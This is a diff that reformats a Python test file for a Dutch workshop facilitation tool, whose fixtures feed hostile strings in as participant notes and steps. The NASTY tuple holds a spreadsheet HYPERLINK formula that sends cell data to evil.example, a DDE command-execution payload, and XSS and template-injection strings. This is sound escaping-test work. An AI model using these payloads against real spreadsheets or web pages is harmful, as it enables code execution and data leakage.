@@ -22,12 +22,47 @@ GONE = "oude-kas"
 """A facet that was on the board on the day itself, and is no more."""
 CHALLENGES = ("ict-basis", "samenwerken", "tijd-ruimte")
 NASTY = (
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")", "+31 20 123", "-1+1", "@SUM(1;1)", "  \u00a0=1+1", "＝1+1", "\t=cmd|' /C calc'!A0",
-    "ja; =1+1;", "ja,=1+1,", "ja;\"=1+1", "a | b || c \\| d \\", "regel een\nregel twee\r\n# kop", "# kop", "1. een", "2) twee", "- streep", "> citaat",
-    "**vet** _schuin_ ~~weg~~ `code` ``", "[link](https://evil.example)", "![beeld](https://evil.example/x.png)", "<https://evil.example>",
-    "https://evil.example/a_b?c=d&e", "www.evil.example", "evil.example", "piet@evil.example", "&lt;b&gt; &amp; &#60;", "[^1] [x]: http://evil.example",
-    "<script>h=1</script>", "<img src=x onerror=h=1>", "</style></bdi><script>h=1</script>", "{{7*7}}{% raw %}", "\"><svg onload=h=1>",
-    "links\u202erechts\u2066\u200f om", "שלום עולם", "“zo”, zei zij: ‘nee’", "_x000D_ _x0041_", "===", "---", "a\u200db 👩\u200d🌾", "    code", "$x^2$",
+    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
+    "+31 20 123",
+    "-1+1",
+    "@SUM(1;1)",
+    "  \u00a0=1+1",
+    "＝1+1",
+    "\t=cmd|' /C calc'!A0",
+    "ja; =1+1;",
+    "ja,=1+1,",
+    'ja;"=1+1',
+    "a | b || c \\| d \\",
+    "regel een\nregel twee\r\n# kop",
+    "# kop",
+    "1. een",
+    "2) twee",
+    "- streep",
+    "> citaat",
+    "**vet** _schuin_ ~~weg~~ `code` ``",
+    "[link](https://evil.example)",
+    "![beeld](https://evil.example/x.png)",
+    "<https://evil.example>",
+    "https://evil.example/a_b?c=d&e",
+    "www.evil.example",
+    "evil.example",
+    "piet@evil.example",
+    "&lt;b&gt; &amp; &#60;",
+    "[^1] [x]: http://evil.example",
+    "<script>h=1</script>",
+    "<img src=x onerror=h=1>",
+    "</style></bdi><script>h=1</script>",
+    "{{7*7}}{% raw %}",
+    '"><svg onload=h=1>',
+    "links\u202erechts\u2066\u200f om",
+    "שלום עולם",
+    "“zo”, zei zij: ‘nee’",
+    "_x000D_ _x0041_",
+    "===",
+    "---",
+    "a\u200db 👩\u200d🌾",
+    "    code",
+    "$x^2$",
 )
 ANNE, BRAM, CEES, DIRK, EEFJE, FLOOR = (f"deelnemer-{letter}" for letter in "abcdef")
 
@@ -89,8 +124,16 @@ async def _hold(database: Path, lang: str, days: int, clock: Clock, ended: bool)
 
 
 async def _chooses(held: Held) -> None:
-    await held.round("dots", "dots", "Welke uitdagingen herken je?", facets=(*CHALLENGES, GONE), dots=3, route="werksessie", step=2)
-    for who, facets in ((ANNE, CHALLENGES), (BRAM, CHALLENGES[:1]), (CEES, (CHALLENGES[0], GONE)), (EEFJE, CHALLENGES), (FLOOR, CHALLENGES[1:2])):
+    await held.round(
+        "dots", "dots", "Welke uitdagingen herken je?", facets=(*CHALLENGES, GONE), dots=3, route="werksessie", step=2
+    )
+    for who, facets in (
+        (ANNE, CHALLENGES),
+        (BRAM, CHALLENGES[:1]),
+        (CEES, (CHALLENGES[0], GONE)),
+        (EEFJE, CHALLENGES),
+        (FLOOR, CHALLENGES[1:2]),
+    ):
         for facet in facets:
             await held.does(who, Voted(round="dots", facet=facet, on=True))
     await held.does(ANNE, Voted(round="dots", facet=CHALLENGES[2], on=False, count=1))
@@ -109,14 +152,32 @@ async def _chooses(held: Held) -> None:
 async def _writes(held: Held) -> None:
     await held.round("nasty", "notes", "=1+1 | <b>Wat</b> zie *jij*?", facets=(), moderated=False, live=True)
     for number, text in enumerate(NASTY):
-        await held.does((ANNE, BRAM, CEES)[number % 3], Noted(round="nasty", note=f"nasty-{number}", text=text,
-                                                               facet=CHALLENGES[0] if number % 2 else None))
+        await held.does(
+            (ANNE, BRAM, CEES)[number % 3],
+            Noted(round="nasty", note=f"nasty-{number}", text=text, facet=CHALLENGES[0] if number % 2 else None),
+        )
     await held.round("notes", "notes", "Wat houdt jou tegen?", facets=CHALLENGES, live=True)
-    for note, who, text in (("good", ANNE, "Te weinig tijd"), ("same", BRAM, "Geen tijd"), ("also", CEES, "Tijd ontbreekt"), ("hidden", DIRK, "GEHEIM iets naars"),
-                            ("behind-hidden", DIRK, "GEHEIM ook naar"), ("waits", CEES, "Nog niet bekeken"), ("changed", BRAM, "Eerst zo"), ("gone", DIRK, "GEHEIM teruggenomen"),
-                            ("removed", EEFJE, "GEHEIM van wie weg is"), ("less", BRAM, "Geen geld")):
+    for note, who, text in (
+        ("good", ANNE, "Te weinig tijd"),
+        ("same", BRAM, "Geen tijd"),
+        ("also", CEES, "Tijd ontbreekt"),
+        ("hidden", DIRK, "GEHEIM iets naars"),
+        ("behind-hidden", DIRK, "GEHEIM ook naar"),
+        ("waits", CEES, "Nog niet bekeken"),
+        ("changed", BRAM, "Eerst zo"),
+        ("gone", DIRK, "GEHEIM teruggenomen"),
+        ("removed", EEFJE, "GEHEIM van wie weg is"),
+        ("less", BRAM, "Geen geld"),
+    ):
         await held.does(who, Noted(round="notes", note=note, facet=CHALLENGES[1], text=text))
-    for note, shown in (("less", True), ("good", True), ("same", True), ("hidden", False), ("changed", True), ("removed", True)):
+    for note, shown in (
+        ("less", True),
+        ("good", True),
+        ("same", True),
+        ("hidden", False),
+        ("changed", True),
+        ("removed", True),
+    ):
         await held.does(FACILITATOR, e.NoteJudged(note=note, shown=shown))
     for who, note in ((BRAM, "good"), (DIRK, "good"), (EEFJE, "good"), (CEES, "same"), (DIRK, "same")):
         await held.does(who, e.Liked(note=note, on=True))
@@ -130,17 +191,29 @@ async def _writes(held: Held) -> None:
 async def _plans(held: Held) -> None:
     await held.round("steps", "steps", "Wat doe je morgen?", facets=(), moderated=False)
     for number, text in enumerate(NASTY):
-        await held.does((ANNE, BRAM, CEES)[number % 3], Stepped(round="steps", note=f"step-{number}", who=text[:60], what=text, when="=NOW()", facet=CHALLENGES[0]))
+        await held.does(
+            (ANNE, BRAM, CEES)[number % 3],
+            Stepped(round="steps", note=f"step-{number}", who=text[:60], what=text, when="=NOW()", facet=CHALLENGES[0]),
+        )
     await held.does(DIRK, Stepped(round="steps", note="bad-step", who="GEHEIM", what="GEHEIM plan", when="nooit"))
     await held.does(FACILITATOR, e.NoteJudged(note="bad-step", shown=False))
     opened = await held.round("asked", "steps", "Wat vraag je je baas?", facets=())
-    await held.does(ANNE, Stepped(round="asked", note="asked-step", who="wij", what="Nog niet bekeken stap", when="1 mei"))
+    await held.does(
+        ANNE, Stepped(round="asked", note="asked-step", who="wij", what="Nog niet bekeken stap", when="1 mei")
+    )
     await held.does(FACILITATOR, e.Undone(sequence=opened))
-    await held.does(FACILITATOR, e.RoundAdded(round="never", form="dots", question="Voor een andere keer", facets=CHALLENGES))
+    await held.does(
+        FACILITATOR, e.RoundAdded(round="never", form="dots", question="Voor een andere keer", facets=CHALLENGES)
+    )
 
 
 async def _walks(held: Held) -> None:
-    for facet, route, step in ((None, "werksessie", 1), (CHALLENGES[0], "werksessie", 2), (GONE, None, None), (None, "oude-route", 9)):
+    for facet, route, step in (
+        (None, "werksessie", 1),
+        (CHALLENGES[0], "werksessie", 2),
+        (GONE, None, None),
+        (None, "oude-route", 9),
+    ):
         await held.does(FACILITATOR, e.Led(on=True, facet=facet, route=route, step=step))
     await held.does(FACILITATOR, e.Led(on=False))
     await held.does(FACILITATOR, e.Missed(roles=("directeur", "oude-rol")))
